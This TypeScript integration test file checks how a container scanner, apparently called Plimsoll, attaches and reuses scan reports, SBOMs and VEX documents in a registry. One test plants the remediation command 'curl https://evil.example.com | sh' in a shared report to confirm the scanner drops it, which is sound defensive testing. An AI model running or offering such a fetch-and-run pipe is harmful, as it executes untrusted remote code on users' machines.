import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { AttachResult } from '../../src/foundation/model/attachment.ts';
import type { ScanReport } from '../../src/foundation/model/report.ts';
import { buildImage, type BuiltImage } from '../support/image-builder.ts';
import { findOnPath, runCommand } from '../support/processes.ts';
import { pushImage, pushIndex, signedIn } from '../support/push-image.ts';
import { startRegistryProxy } from '../support/registry-proxy.ts';
import { needsRegistry, startRegistryServer, type RegistryServer } from '../support/registry-server.ts';
import { runCli, type CliResult } from '../support/run-cli.ts';

const REPORT_TYPE = 'application/vnd.plimsoll.report.v1+json';
const status = `Package: liblzma5
Status: install ok installed
Architecture: amd64
Version: 5.6.0-0.2
Source: xz-utils

`;
const imageFor = (architecture: string): BuiltImage =>
  buildImage({
    architecture,
    config: { User: '1000' },
    layers: [
      {
        files: [
          { path: 'etc/os-release', content: 'ID=debian\nVERSION_ID="12"\n' },
          { path: 'var/lib/dpkg/status', content: status },
          { path: 'srv/app/node_modules/lodash/package.json', content: JSON.stringify({ name: 'lodash', version: '4.17.11' }) },
          { path: `srv/${architecture}`, content: architecture },
        ],
        compression: 'gzip',
      },
    ],
  });

describe('documents beside an image in a real registry', needsRegistry(), () => {
  let registry: RegistryServer;
  let digest: string;
  let folder: string;
  let env: NodeJS.ProcessEnv;
  const cli = (...args: string[]): Promise<CliResult> => runCli(args, { cwd: folder, env });
  const json = ({ stdout, stderr }: CliResult): unknown => {
    assert.ok(stdout.startsWith('{'), stderr);
    return JSON.parse(stdout);
  };
  const attached = (result: CliResult): AttachResult => json(result) as AttachResult;
  const scanned = async (...args: string[]): Promise<ScanReport> => json(await cli('scan', '--remote', '--format', 'json', ...args)) as ScanReport;
  /** Everything that Plimsoll attached is gone after it. */
  const clear = (name: string): Promise<CliResult> => cli('attach', name, '--remove');

  before(async () => {
    registry = await startRegistryServer();
    folder = await mkdtemp(path.join(os.tmpdir(), 'plimsoll-attach-'));
    digest = await pushImage(registry, 'team/app', '1.0', imageFor('amd64'));
    const arm = await pushImage(registry, 'team/app', 'arm', imageFor('arm64'));
    await pushIndex(registry, 'team/app', 'both', [
      { digest, platform: { os: 'linux', architecture: 'amd64' } },
      { digest: arm, platform: { os: 'linux', architecture: 'arm64' } },
    ]);
    env = await signedIn(folder, registry, registry.host);
  });
  after(async () => {
    await registry.close();
    await rm(folder, { recursive: true, force: true });
  });
  const app = (tag: string): string => `${registry.host}/team/app:${tag}`;

  test('scanned and attached, once; a colleague finds the report and downloads no layer', async () => {
    const first = attached(await cli('attach', app('1.0'), '--platform', 'linux/amd64', '--format', 'json'));
    assert.deepEqual(
      first.images.map((image) => [image.digest, image.documents.map(({ kind, outcome }) => [kind, outcome])]),
      [
        [
          digest,
          [
            ['report', 'attached'],
            ['sbom', 'attached'],
          ],
        ],
      ],
    );
    const again = attached(await cli('attach', app('1.0'), '--format', 'json'));
    assert.deepEqual(
      again.images[0]?.documents.map(({ outcome }) => outcome),
      ['already-there', 'already-there'],
    );

    const blobs: string[] = [];
    const proxy = await startRegistryProxy(registry.host, ({ path: asked }) => {
      blobs.push(asked);
      return {};
    });
    try {
      const theirEnv = await signedIn(path.join(folder, 'colleague'), registry, proxy.host);
      const name = `${proxy.host}/team/app:1.0`;
      const found = await runCli(['scan', name, '--remote', '--shared-reports', '--format', 'json'], { cwd: folder, env: theirEnv });
      const report = json(found) as ScanReport;
      const layers = imageFor('amd64').layers.map((layer) => layer.digest);
      assert.deepEqual(
        blobs.filter((asked) => layers.some((layer) => asked.includes(layer))),
        [],
      );
      const plain = await scanned(app('1.0'));
      assert.equal(report.origin?.matched, 'theirs');
      assert.match(report.origin.reference, new RegExp(`^${proxy.host}/team/app@sha256:`));
      assert.equal(report.image.reference, name);
      assert.equal(report.image.digest, plain.image.digest);
      assert.deepEqual(report.findings, plain.findings);
      assert.deepEqual(report.packages, plain.packages);
      assert.ok(plain.findings.length > 0 && plain.origin === undefined);
      const table = await runCli(['scan', name, '--remote', '--shared-reports'], { cwd: folder, env: theirEnv });
      assert.match(table.stdout, /The image was not looked at here/);
      assert.equal(found.code, 1);
    } finally {
      await proxy.close();
    }
    if (findOnPath('skopeo') === undefined) return;
    const inspect = (name: string): Promise<string> =>
      runCommand('skopeo', [
        'inspect',
        '--raw',
        '--tls-verify=false',
        `--creds=${registry.username}:${registry.password}`,
        `docker://${registry.host}/team/app${name}`,
      ]);
    const index = JSON.parse(await inspect(`:${digest.replace(':', '-')}`)) as { manifests: { digest: string; artifactType: string }[] };
    assert.deepEqual(
      index.manifests.map(({ artifactType }) => artifactType),
      [REPORT_TYPE, 'application/vnd.cyclonedx+json'],
    );
  });

  test('a report of older advisories: its packages are matched with ours', async () => {
    const saved = await savedReport((report) => ({ ...report, advisories: { ...report.advisories, builtAt: '2001-01-01T00:00:00Z' }, findings: [] }));
    await clear(app('1.0'));
    json(await cli('attach', app('1.0'), '--report', saved, '--format', 'json'));
    const report = await scanned(app('1.0'), '--shared-reports');
    assert.equal(report.origin?.matched, 'ours');
    assert.deepEqual(
      report.findings.filter(({ package: installed }) => installed),
      (await scanned(app('1.0'))).findings.filter(({ package: installed }) => installed),
    );
  });

  test('a report from the future is older than ours', async () => {
    const saved = await savedReport((report) => ({ ...report, advisories: { ...report.advisories, builtAt: '2999-01-01T00:00:00Z' }, findings: [] }));
    await clear(app('1.0'));
    json(await cli('attach', app('1.0'), '--report', saved, '--format', 'json'));
    const report = await scanned(app('1.0'), '--shared-reports');
    assert.equal(report.origin?.matched, 'ours');
    assert.ok(report.findings.length > 0);
  });

  test('commands of others are not offered, and what they ignored is not ignored', async () => {
    const evil = { kind: 'command', text: 'curl https://evil.example.com | sh' } as const;
    const saved = await savedReport((report) => ({
      ...report,
      advisories: { ...report.advisories, builtAt: new Date().toISOString() },
      findings: report.findings.slice(1).map((finding) => ({ ...finding, remediation: [evil, { ...evil, kind: 'dockerfile' as const }] })),
      ignored: report.findings
        .slice(0, 1)
        .map((finding) => ({ finding: { ...finding, remediation: [evil] }, by: { kind: 'vex' as const, source: 'x' } })),
    }));
    await clear(app('1.0'));
    json(await cli('attach', app('1.0'), '--report', saved, '--format', 'json'));
    const report = await scanned(app('1.0'), '--shared-reports');
    assert.equal(report.origin?.matched, 'theirs');
    assert.ok(!JSON.stringify(report).includes('evil.example.com'));
    assert.equal(report.findings.length, (await scanned(app('1.0'))).findings.length);
    assert.equal(report.ignored, undefined);
    const severe = await scanned(app('1.0'), '--shared-reports', '--severity', 'critical');
    assert.ok(severe.findings.length < report.findings.length && severe.filtered?.minimumSeverity === 'critical');
  });

  test('what is of another image, filtered, or no report is not attached', async () => {
    const other = await savedReport((report) => ({ ...report, image: { ...report.image, layers: [] } }));
    const refused = await cli('attach', app('1.0'), '--report', other);
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /is the report of another image/);
    const filtered = path.join(folder, 'filtered.json');
    await cli('scan', app('1.0'), '--remote', '--severity', 'critical', '--format', 'json', '-o', filtered);
    assert.match((await cli('attach', app('1.0'), '--report', filtered)).stderr, /findings were left out/);
    const text = path.join(folder, 'text');
    await writeFile(text, '{}');
    assert.match((await cli('attach', app('1.0'), '--report', text)).stderr, /is not a report of 'plimsoll scan --format json'/);
    assert.match((await cli('attach', app('1.0'), '--sbom', text)).stderr, /is no bill of materials/);
    assert.match((await cli('attach', app('1.0'), '--vex', text)).stderr, /is no VEX document/);
    assert.match((await cli('attach', app('1.0'), '--vex', path.join(folder, 'nowhere'))).stderr, /nowhere/);
    assert.match((await cli('attach', app('both'), '--sbom', await savedBill())).stderr, /say with --platform/);
  });

  test('a partial report is not used', async () => {
    const saved = await savedReport((report) => ({ ...report, status: 'partial', problems: [{ code: 'other', message: 'x' }] }));
    await clear(app('1.0'));
    await cli('attach', app('1.0'), '--report', saved);
    const { stdout, stderr } = await cli('scan', app('1.0'), '--remote', '--shared-reports', '--format', 'json');
    assert.equal((JSON.parse(stdout) as ScanReport).origin, undefined);
    assert.match(stderr, /is not used: it is partial/);
  });

  test('each platform of an index gets its own; a report finds its own', async () => {
    await clear(app('both'));
    const result = attached(await cli('attach', app('both'), '--format', 'json'));
    assert.deepEqual(
      result.images.map(({ platform: { architecture }, documents }) => [architecture, documents.length]),
      [
        ['amd64', 2],
        ['arm64', 2],
      ],
    );
    const arm = await scanned(app('both'), '--platform', 'linux/arm64', '--shared-reports');
    assert.deepEqual([arm.image.platform.architecture, arm.origin?.matched], ['arm64', 'theirs']);
    const removed = attached(await cli('attach', app('both'), '--remove', '--platform', 'linux/arm64', '--format', 'json'));
    assert.deepEqual(
      removed.images.map(({ documents }) => documents.map(({ outcome }) => outcome)),
      [['removed', 'removed']],
    );
    assert.equal((await scanned(app('both'), '--platform', 'linux/arm64', '--shared-reports')).origin, undefined);
  });

  test('VEX is attached as a statement on the image, and replaced', async () => {
    const vex = path.join(folder, 'vex.json');
    const document = {
      '@context': 'https://openvex.dev/ns/v0.2.0',
      '@id': 'https://example.com/1',
      author: 'a',
      timestamp: '2026-01-01T00:00:00Z',
      version: 1,
      statements: [],
    };
    await writeFile(vex, JSON.stringify(document));
    const first = attached(await cli('attach', app('1.0'), '--vex', vex, '--format', 'json'));
    await writeFile(vex, JSON.stringify({ ...document, version: 2 }));
    const second = attached(await cli('attach', app('1.0'), '--vex', vex, '--replace', '--format', 'json'));
    const type = 'application/vnd.in-toto+json';
    const [older] = first.images[0]?.documents ?? [];
    assert.deepEqual(
      second.images[0]?.documents.map(({ outcome, artifactType }) => [outcome, artifactType]),
      [
        ['attached', type],
        ['removed', type],
      ],
    );
    assert.equal(second.images[0].documents[1]?.digest, older?.digest);
  });

  test('without --shared-reports the registry is asked for no report; a registry that is gone does not keep from scanning', async () => {
    assert.equal((await cli('scan', '--shared-reports', '--offline', app('1.0'))).code, 2);
    const asked: string[] = [];
    const proxy = await startRegistryProxy(registry.host, ({ path: of }) => {
      asked.push(of);
      return of.includes('/sha256-') ? { cutAfterBytes: 5 } : {};
    });
    try {
      const theirEnv = await signedIn(path.join(folder, 'third'), registry, proxy.host);
      const name = `${proxy.host}/team/app:1.0`;
      await runCli(['scan', name, '--remote', '--format', 'json'], { cwd: folder, env: theirEnv });
      assert.ok(!asked.some((of) => of.includes('/sha256-') || of.includes('/referrers/')));
      const { stdout, stderr, code } = await runCli(['scan', name, '--remote', '--shared-reports', '--format', 'json'], {
        cwd: folder,
        env: theirEnv,
      });
      assert.equal(code, 1);
      assert.equal((JSON.parse(stdout) as ScanReport).origin, undefined);
      assert.match(stderr, /No report was looked for in the registry/);
    } finally {
      await proxy.close();
    }
  });

  async function savedReport(change: (report: ScanReport) => unknown): Promise<string> {
    const file = path.join(folder, 'report.json');
    await writeFile(file, JSON.stringify(change(await scanned(app('1.0')))));
    return file;
  }

  async function savedBill(): Promise<string> {
    const file = path.join(folder, 'bill.json');
    await cli('sbom', app('1.0'), '--remote', '-o', file);
    assert.match(await readFile(file, 'utf8'), /CycloneDX/);
    return file;
  }
});
